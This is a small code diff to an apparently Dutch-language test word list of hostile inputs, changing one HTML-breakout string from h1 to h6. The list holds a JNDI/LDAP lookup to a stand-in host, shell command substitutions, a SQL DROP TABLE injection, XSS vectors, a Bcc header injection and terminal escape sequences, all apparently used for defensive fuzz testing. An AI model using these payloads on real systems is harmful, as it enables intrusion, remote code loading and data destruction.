@@ -19,7 +19,7 @@ WORDS = [
     "I wrote to the shop on 3 February 2026 and they refused.", "opgelost, bedankt",
     "ik trek mijn klacht in", "ja", CANARY, "{{", "{%", "{#", "${jndi:ldap://a.example/b}", "%s%n%x",
     "$(id)", "`id`", "'; DROP TABLE letters; --", "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>", "</td></tr></table><h1>groot</h1>", "<!--", "]]>",
+    "<img src=x onerror=alert(1)>", "</td></tr></table><h6>groot</h6>", "<!--", "]]>",
     '"><a href="javascript:alert(1)">klik</a>', "[klik](javascript:alert(1))", "**vet**", "## kop", "---",
     "- punt", "> aanhaling", "Subject: ander onderwerp", "Bcc: slachtoffer@elders.example", "Fact: a | b",
     "\\ ", "\\", "\x1b[2J", "\x1b]0;eigenaar\x07", "\x1b]8;;http://evil.example\x1b\\", "\x9b31m",
